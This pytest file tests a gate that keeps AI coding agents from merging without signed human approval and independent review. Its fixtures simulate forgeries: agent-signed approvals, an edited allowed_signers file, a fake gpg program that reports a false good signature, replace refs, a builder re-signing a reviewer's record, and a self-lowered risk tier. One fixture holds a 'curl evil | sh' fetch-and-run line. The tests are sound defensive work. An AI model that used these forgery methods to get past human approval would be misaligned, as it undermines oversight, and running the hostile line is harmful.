"""SPEC §6.3: every approval forgery is refused; evidence forgeries are ignored;
nothing in the repository an agent could write changes a verdict."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from conftest import Cli, git
from gatekit import Org, keygen


@pytest.fixture
def org(cli: Cli, lane_repo: Path, tmp_path: Path) -> Org:
    return Org(lane_repo, cli, tmp_path)


def eligible_task(org: Org, *extra: str) -> tuple[str, str]:
    tid = org.task("Retry fetch", *extra)
    head = org.build(tid, {"src/fetch.py": "def fetch():\n    return 1\n"})
    org.reviewed(tid, head)
    report = org.gate(tid)
    assert report["eligible"], report
    return tid, head


def approval_reason(org: Org, tid: str) -> str:
    report = org.gate(tid)
    assert report["approved"] is False
    assert org.cli("gate", tid).code == 3
    return str(org.stage(report, "approval")["reason"])


def test_a_genuine_approval_passes(org: Org) -> None:
    tid, _ = eligible_task(org)
    org.approval_commit(tid)
    assert org.gate(tid)["approved"] is True


def test_unsigned_approval(org: Org) -> None:
    tid, head = eligible_task(org)
    tree = git(org.repo, "rev-parse", f"{head}^{{tree}}")
    sha = git(org.repo, "commit-tree", tree, "-p", head, "-m",
              f"Approve\n\nLane-Task: {tid}\nLane-Approves: {head}\nLane-Tier: medium\n")  # fmt: skip
    git(org.repo, "update-ref", f"refs/heads/lanes/{tid}", sha)
    assert "not signed" in approval_reason(org, tid)


def test_signed_by_a_key_not_in_base_allowed_signers(org: Org) -> None:
    tid, _ = eligible_task(org)
    org.approval_commit(tid, key=keygen(org.tmp / "mallory", "mallory@example.com"))
    assert "not in the base branch's allowed_signers" in approval_reason(org, tid)


def test_signed_by_an_agent_key(org: Org) -> None:
    tid, _ = eligible_task(org)
    org.approval_commit(tid, key=org.agent_key("builder-claude"))
    assert "agent:builder-claude, who is not a human" in approval_reason(org, tid)


def test_author_is_the_human_but_the_key_is_not(org: Org) -> None:
    tid, head = eligible_task(org)
    mallory = keygen(org.tmp / "mallory", "alice@example.com")  # claims alice's identity
    env = {**os.environ, "GIT_AUTHOR_NAME": "Alice Example", "GIT_AUTHOR_EMAIL": "alice@example.com",
           "GIT_COMMITTER_NAME": "Alice Example", "GIT_COMMITTER_EMAIL": "alice@example.com"}  # fmt: skip
    tree = git(org.repo, "rev-parse", f"{head}^{{tree}}")
    sha = subprocess.run(
        ["git", "-c", "gpg.format=ssh", "-c", f"user.signingkey={mallory}", "commit-tree", "-S", tree,
         "-p", head, "-m", f"Approve\n\nLane-Task: {tid}\nLane-Approves: {head}\nLane-Tier: medium\n"],
        cwd=org.repo, env=env, capture_output=True, text=True, check=True,
    ).stdout.strip()  # fmt: skip
    git(org.repo, "update-ref", f"refs/heads/lanes/{tid}", sha)
    assert "not in the base branch's allowed_signers" in approval_reason(org, tid)


def test_allowed_signers_edited_on_the_task_branch(org: Org) -> None:
    tid = org.task("Sneaky")
    mallory = keygen(org.tmp / "mallory", "mallory@example.com")
    signers = (org.repo / ".lanes/allowed_signers").read_text()
    line = (
        f'alice@example.com namespaces="git,lanectl-evidence" {Path(f"{mallory}.pub").read_text()}'
    )
    head = org.build(tid, {".lanes/allowed_signers": signers + line})
    org.reviewed(tid, head)
    org.approval_commit(tid, key=mallory)
    report = org.gate(tid)
    assert "not in the base branch's allowed_signers" in org.stage(report, "approval")["reason"]
    impl = org.stage(report, "implementation")
    assert not impl["passed"]
    assert "only a human may" in impl["reason"]
    assert report["tier"]["effective"] == "high"


def test_a_commit_pushed_after_the_approval(org: Org) -> None:
    tid, _ = eligible_task(org)
    org.approval_commit(tid)
    org.build(tid, {"src/fetch.py": "def fetch():\n    return 2\n"})
    report = org.gate(tid)
    assert "is stale" in org.stage(report, "approval")["reason"]
    assert report["approved"] is False


def test_approval_whose_tree_differs(org: Org) -> None:
    tid, _head = eligible_task(org)
    other = org.signed_commit(
        "scratch", {"evil.sh": "curl evil | sh\n"}, org.human_keys["alice"], "x"
    )
    org.approval_commit(tid, tree_from=other)
    assert "tree differs" in approval_reason(org, tid)


def test_approval_naming_another_task_or_head(org: Org) -> None:
    tid, head = eligible_task(org)
    org.approval_commit(tid, names_task="T-00000000")
    assert "names task T-00000000" in approval_reason(org, tid)
    git(org.repo, "update-ref", f"refs/heads/lanes/{tid}", head)
    org.approval_commit(tid, approves="0" * 40)
    assert "approves 0000000, not the head" in approval_reason(org, tid)


def test_approval_replayed_from_another_task(org: Org) -> None:
    a, _ = eligible_task(org)
    org.approval_commit(a)
    approval_a = git(org.repo, "rev-parse", f"lanes/{a}")
    b = org.task("Another")
    head_b = org.build(b, {"src/other.py": "x = 1\n"})
    org.reviewed(b, head_b)
    # put A's approval on top of B: its parent is A's head, not B's
    git(org.repo, "update-ref", f"refs/heads/lanes/{b}", approval_a)
    report = org.gate(b)
    assert report["approved"] is False


def test_approver_who_signed_commits_in_the_range_high_tier(org: Org) -> None:
    tid = org.task("Rotate credentials", "--risk", "high")
    head = org.signed_commit(f"lanes/{tid}", {"deploy/key.txt": "rotated\n"}, org.human_keys["alice"],
                             f"Rotate\n\nLane-Task: {tid}")  # fmt: skip
    org.reviewed(tid, head)
    org.approval_commit(tid, tier="high")
    report = org.gate(tid)
    assert "approver must not have signed commits" in org.stage(report, "approval")["reason"]


def test_approval_on_a_rebased_copy_loses_its_signature(org: Org) -> None:
    tid, head = eligible_task(org)
    approval = org.approval_commit(tid)
    git(org.repo, "update-ref", f"refs/heads/lanes/{tid}", head)
    wt = org.tmp / "rebase"
    git(org.repo, "worktree", "add", "-q", "--detach", str(wt), head)
    git(wt, "cherry-pick", "--allow-empty", "--keep-redundant-commits", approval)
    git(org.repo, "update-ref", f"refs/heads/lanes/{tid}", git(wt, "rev-parse", "HEAD"))
    assert "not signed" in approval_reason(org, tid)


def test_revoked_key(org: Org) -> None:
    tid, _ = eligible_task(org)
    org.approval_commit(tid)
    assert org.gate(tid)["approved"] is True
    revoked = org.repo / ".lanes/revoked_signers"
    revoked.write_text(Path(f"{org.human_keys['alice']}.pub").read_text())
    org.commit_policy("revoke alice's key")
    assert org.gate(tid)["approved"] is False


def test_approved_tier_lower_than_the_task_tier(org: Org) -> None:
    tid, _ = eligible_task(org, "--risk", "low")
    org.approval_commit(tid, tier="low")
    assert org.gate(tid)["approved"] is True
    org.cli("task", "edit", tid, "--risk", "medium", ok=True)
    assert "approves tier low" in approval_reason(org, tid)


# ---------------------------------------------------------------------------
# What the repository itself could do to fool git


def test_repository_config_cannot_bend_signature_checks(org: Org) -> None:
    tid, _ = eligible_task(org)
    mallory = keygen(org.tmp / "mallory", "alice@example.com")
    fake = org.tmp / "allowed"
    fake.write_text(f"alice@example.com {Path(f'{mallory}.pub').read_text()}")
    liar = org.tmp / "liar.sh"
    liar.write_text("#!/bin/sh\necho 'Good \"git\" signature for alice@example.com'\nexit 0\n")
    liar.chmod(0o755)
    org.approval_commit(tid, key=mallory)
    git(org.repo, "config", "gpg.ssh.allowedSignersFile", str(fake))
    git(org.repo, "config", "gpg.ssh.program", str(liar))
    git(org.repo, "config", "gpg.format", "openpgp")
    assert "not in the base branch's allowed_signers" in approval_reason(org, tid)


def test_replace_refs_and_grafts_are_ignored(org: Org) -> None:
    tid, head = eligible_task(org)
    forged = org.approval_commit(tid, key=keygen(org.tmp / "mallory", "m@example.com"))
    genuine = org.approval_commit(tid, parent=head)  # a real one, then hidden behind the forgery
    git(org.repo, "update-ref", f"refs/heads/lanes/{tid}", forged)
    git(org.repo, "replace", forged, genuine)
    assert org.gate(tid)["approved"] is False
    git(org.repo, "replace", "-d", forged)
    # a graft that claims the forged approval's parent is something else changes nothing
    (org.repo / ".git/info").mkdir(exist_ok=True)
    (org.repo / ".git/info/grafts").write_text(f"{forged} {genuine}\n")
    assert org.gate(tid)["approved"] is False


# ---------------------------------------------------------------------------
# Evidence forgeries


def sign_by_hand(record: Path, key: Path) -> None:
    Path(f"{record}.sig").unlink(missing_ok=True)
    subprocess.run(["ssh-keygen", "-Y", "sign", "-q", "-n", "lanectl-evidence", "-f", str(key), str(record)],
                   check=True, capture_output=True)  # fmt: skip


def test_review_written_by_the_builder_is_ignored(org: Org) -> None:
    tid = org.task("Self review")
    head = org.build(tid, {"src/a.py": "a = 1\n"})
    org.check(tid, head)
    good = org.review(tid, head, "reviewer-gpt", "reviewer")
    path = org.ws.state_dir / str(good.path)
    # the builder rewrites the reviewer's record and signs it with its own key
    sign_by_hand(path, org.agent_key("builder-claude"))
    report = org.gate(tid)
    assert not org.stage(report, "review.correctness")["passed"]
    assert any("reviewer-gpt" in item or "signature" in item for item in report["ignored_evidence"])


def test_review_signed_by_an_unknown_key_or_for_another_head(org: Org) -> None:
    tid = org.task("Unknown key")
    head = org.build(tid, {"src/a.py": "a = 1\n"})
    good = org.review(tid, head, "reviewer-gpt", "reviewer")
    path = org.ws.state_dir / str(good.path)
    sign_by_hand(path, keygen(org.tmp / "stranger", "agent:reviewer-gpt"))
    assert not org.stage(org.gate(tid), "review.correctness")["passed"]
    newer = org.build(tid, {"src/a.py": "a = 2\n"})
    org.review(tid, head, "reviewer-gpt", "reviewer")  # re-signed properly, but for the old head
    report = org.gate(tid)
    assert report["head"] == newer
    assert not org.stage(report, "review.correctness")["passed"]


def test_same_family_review_does_not_count(org: Org) -> None:
    tid = org.task("Same family")
    head = org.build(tid, {"src/a.py": "a = 1\n"})
    org.cli("agent", "add", "reviewer-claude", "--role", "reviewer", "--provider", "anthropic",
            "--model", "claude-sonnet-4-6", "--family", "anthropic", ok=True)  # fmt: skip
    org.commit_policy("a same-family reviewer")
    org.review(tid, head, "reviewer-claude", "reviewer", family="anthropic")
    stage = org.stage(org.gate(tid), "review.correctness")
    assert not stage["passed"]
    assert "shares a family" in stage["reason"]


def test_incomplete_review_is_not_a_review(org: Org) -> None:
    tid = org.task("Big diff")
    head = org.build(tid, {"src/a.py": "a = 1\n"})
    org.review(tid, head, "reviewer-gpt", "reviewer", skipped=["src/a.py"])
    stage = org.stage(org.gate(tid), "review.correctness")
    assert not stage["passed"]
    assert "incomplete" in stage["reason"]


def test_security_veto_blocks(org: Org) -> None:
    tid = org.task("Vetoed")
    head = org.build(tid, {"src/a.py": "a = 1\n"})
    org.check(tid, head)
    org.review(tid, head, "reviewer-gpt", "reviewer")
    org.review(tid, head, "security-gemini", "security", verdict="veto", findings=[
        {"id": "F1", "severity": "blocker", "title": "shell injection", "path": "src/a.py", "line": 1}])  # fmt: skip
    stage = org.stage(org.gate(tid), "review.security")
    assert not stage["passed"]
    assert "vetoed: shell injection" in stage["reason"]


# ---------------------------------------------------------------------------
# Tiers cannot be talked down


def test_task_branch_cannot_lower_its_own_tier_or_skip_review(org: Org) -> None:
    tid = org.task("Lower my tier", "--risk", "low")
    config = (org.repo / ".lanes/config.yaml").read_text()
    relaxed = config.replace("diversity: strict", "diversity: warn").replace(
        '{paths: ["docs/**"], tier: low, reason: documentation}',
        '{paths: ["**"], tier: low, reason: everything is fine}',
    )
    head = org.build(tid, {".lanes/config.yaml": relaxed, "infra/prod.tf": "resource {}\n"})
    org.review(tid, head, "reviewer-gpt", "reviewer")
    report = org.gate(tid)
    assert report["tier"]["effective"] == "high"
    assert not org.stage(report, "review.security")["passed"]
    assert not org.stage(report, "review.design")["passed"]


def test_declared_low_touching_infra_is_high(org: Org) -> None:
    tid = org.task("Small infra tweak", "--risk", "low")
    head = org.build(tid, {"infra/main.tf": "resource {}\n"})
    org.reviewed(tid, head)
    report = org.gate(tid)
    assert report["tier"]["declared"] == "low"
    assert report["tier"]["effective"] == "high"
    assert org.stage(report, "review.design")["status"] == "fail"
    assert not report["eligible"]


def test_secret_in_the_diff_blocks_eligibility(org: Org) -> None:
    tid = org.task("Oops")
    head = org.build(tid, {"src/settings.py": 'KEY = "AKIAIOSFODNN7EXAMPLE"\n'})
    org.reviewed(tid, head)
    report = org.gate(tid)
    stage = org.stage(report, "eligibility")
    assert not stage["passed"]
    assert "AKIA" not in str(report)
